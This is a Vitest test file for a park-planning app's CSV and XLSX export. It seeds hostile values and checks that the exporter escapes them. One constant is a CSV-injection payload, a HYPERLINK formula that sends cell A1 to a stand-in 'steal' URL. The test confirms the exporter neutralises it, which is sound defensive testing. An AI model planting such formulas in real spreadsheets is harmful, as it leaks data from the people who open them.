import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { openProject } from '../../electron/store/project';
import { formatMessage, isMessageKey } from '../../shared/messages/message';
import { CLI_TIMEOUT, exportOk, gdalLayer, readGeoJson, writeDemo, type OurFeature } from './exportSupport';

const dir = mkdtempSync(join(tmpdir(), 'parkplan-export-tables-'));
const project = join(dir, 'demo.gpkg');
// A comma, quotes and a line break: what breaks a naive CSV writer.
const HOSTILE_RESIDENT = 'ООО "Бумага, Картон и К°"';
const HOSTILE_NOTE = 'Сервитут: ЛЭП 10 кВ,\r\nохранная зона «2 м»';
// A formula a spreadsheet would run on opening (CSV injection).
const HOSTILE_CONTACT = '=HYPERLINK("http://example.invalid/steal?"&A1,"Сайт")';
let residentCount = 0;
let allocationCount = 0;
let ourPlots: OurFeature[] = [];

beforeAll(() => {
  writeDemo(project);
  const store = openProject(project);
  try {
    store.transaction(() => {
      const allocated = store.allocations.listActive()[0];
      const resident = allocated === undefined ? null : store.residents.get(allocated.residentId);
      const plot = allocated === undefined ? null : store.plots.get(allocated.plotId);
      if (resident === null || plot === null) throw new Error('the demo has no active allocation');
      store.residents.update({ ...resident, name: HOSTILE_RESIDENT, contact: HOSTILE_CONTACT });
      store.plots.update({ ...plot, notes: HOSTILE_NOTE });
    });
    residentCount = store.residents.list().length;
    allocationCount = store.allocations.list().length;
  } finally {
    store.close();
  }
  exportOk(project, join(dir, 'all.geojson'));
  ourPlots = readGeoJson(join(dir, 'all.geojson')).filter((feature) => feature.properties.layer === 'plots');
}, CLI_TIMEOUT);

/** Each plot as GDAL read it matches our GeoJSON: code, status, resident and geodesic area. */
function expectPlotRows(
  rows: readonly Record<string, unknown>[],
  keys: { code: string; status: string; resident: string; areaM2: string; areaHa: string },
  statusWord: (status: unknown) => unknown = (status) => status,
): void {
  expect(rows).toHaveLength(ourPlots.length);
  ourPlots.forEach((plot, index) => {
    const row = rows[index] ?? {};
    expect(row[keys.code]).toBe(plot.properties['code']);
    expect(row[keys.status]).toBe(statusWord(plot.properties['status']));
    expect(row[keys.resident] || null).toBe(plot.properties['residentName']);
    expect(Math.abs(Number(row[keys.areaM2]) - (plot.properties['areaM2'] as number))).toBeLessThanOrEqual(0.005);
    expect(Math.abs(Number(row[keys.areaHa]) - (plot.properties['areaHa'] as number))).toBeLessThanOrEqual(5e-7);
  });
}

describe('parkplan export OUT.csv', () => {
  it('writes plots, residents and allocations as UTF-8 CSV with a BOM that GDAL reads back exactly', () => {
    const out = exportOk(project, join(dir, 'park.csv'));
    expect(out).toContain('park-residents.csv');
    const bytes = readFileSync(join(dir, 'park.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toMatch(/^\uFEFFpark,code,cadastral_number,status,zone,area_m2,area_ha,/);
    expect(bytes.toString('utf8').split('\r\n').length).toBeGreaterThan(ourPlots.length);

    const plots = gdalLayer(join(dir, 'park.csv'), 'park').map((feature) => feature.properties);
    expectPlotRows(plots, { code: 'code', status: 'status', resident: 'resident', areaM2: 'area_m2', areaHa: 'area_ha' });
    // GDAL's CSV reader turns a quoted CRLF into LF; the quoting itself must hold the break inside the field.
    expect(plots.map((row) => row['notes'])).toContain(HOSTILE_NOTE.replace('\r\n', '\n'));
    expect(bytes.toString('utf8')).toContain(`"${HOSTILE_NOTE}"`);
    expect(plots.map((row) => row['resident'])).toContain(HOSTILE_RESIDENT);

    const residents = gdalLayer(join(dir, 'park-residents.csv'), 'park-residents').map((feature) => feature.properties);
    expect(residents).toHaveLength(residentCount);
    expect(residents.map((row) => row['name'])).toContain(HOSTILE_RESIDENT);
    expect(residents.every((row) => /^\d{10}(\d{2})?$/.test(String(row['inn'])))).toBe(true);
    const allocations = gdalLayer(join(dir, 'park-allocations.csv'), 'park-allocations').map((feature) => feature.properties);
    expect(allocations).toHaveLength(allocationCount);
  }, CLI_TIMEOUT);

  it('keeps a formula in a cell as text (OWASP: a leading quote, the field quoted)', () => {
    exportOk(project, join(dir, 'guarded.csv'), '--table', 'residents');
    const text = readFileSync(join(dir, 'guarded.csv'), 'utf8');
    expect(text).toContain(`"'${HOSTILE_CONTACT.replaceAll('"', '""')}"`);
    expect(text).not.toMatch(/(^|[,\n])=HYPERLINK/);
    const rows = gdalLayer(join(dir, 'guarded.csv'), 'guarded').map((feature) => feature.properties);
    expect(rows.map((row) => row['contact'])).toContain(`'${HOSTILE_CONTACT}`);
  }, CLI_TIMEOUT);

  it('with --table writes that one table to OUT.csv, and --park narrows it', () => {
    exportOk(project, join(dir, 'held.csv'), '--table', 'allocations', '--park', 'Рязанский');
    expect(existsSync(join(dir, 'held-residents.csv'))).toBe(false);
    const rows = gdalLayer(join(dir, 'held.csv'), 'held').map((feature) => feature.properties);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.length).toBeLessThan(allocationCount);
    expect(rows.every((row) => String(row['park']).includes('«Рязанский»'))).toBe(true);
    expect(Object.keys(rows[0] ?? {})).toEqual(['park', 'plot', 'resident', 'resident_inn', 'kind', 'agreement_no', 'start_date', 'end_date', 'active']);
  }, CLI_TIMEOUT);
});

describe('parkplan export OUT.xlsx', () => {
  it('writes one workbook with Cyrillic sheets that GDAL reads back', () => {
    const file = join(dir, 'park.xlsx');
    exportOk(project, file);
    const check = spawnSync('/usr/bin/unzip', ['-tq', file], { encoding: 'utf8' });
    expect(check.stdout).toContain('No errors detected');
    const listing = spawnSync('/usr/bin/ogrinfo', ['-ro', '-q', file], { encoding: 'utf8' });
    expect(listing.stderr).toBe('');
    expect(listing.stdout).toMatch(/1: Участки[\s\S]*2: Резиденты[\s\S]*3: Предоставления/);

    const plots = gdalLayer(file, 'Участки').map((feature) => feature.properties);
    expectPlotRows(plots, {
      code: 'Участок',
      status: 'Статус',
      resident: 'Резидент',
      areaM2: 'Площадь, м²',
      areaHa: 'Площадь, га',
    }, (status) => {
      // The sheet's titles are Russian, and so are its values: «Инфраструктура», not 'infrastructure'.
      const key = `tableValue.plotStatus.${String(status)}`;
      return isMessageKey(key) ? formatMessage('ru', { key, params: {} }) : status;
    });
    expect(typeof plots[0]?.['Площадь, м²']).toBe('number');
    expect(plots.map((row) => row['Примечания'])).toContain(HOSTILE_NOTE.replace('\r\n', '\n'));
    const residents = gdalLayer(file, 'Резиденты').map((feature) => feature.properties);
    expect(residents).toHaveLength(residentCount);
    expect(residents.map((row) => row['Резидент'])).toContain(HOSTILE_RESIDENT);
    const allocations = gdalLayer(file, 'Предоставления').map((feature) => feature.properties);
    expect(allocations).toHaveLength(allocationCount);
    // Dates are spreadsheet dates (sortable, filterable), which GDAL reads as ISO dates.
    expect(allocations.every((row) => /^\d{4}-\d{2}-\d{2}$/.test(String(row['С'])))).toBe(true);
  }, CLI_TIMEOUT);
});
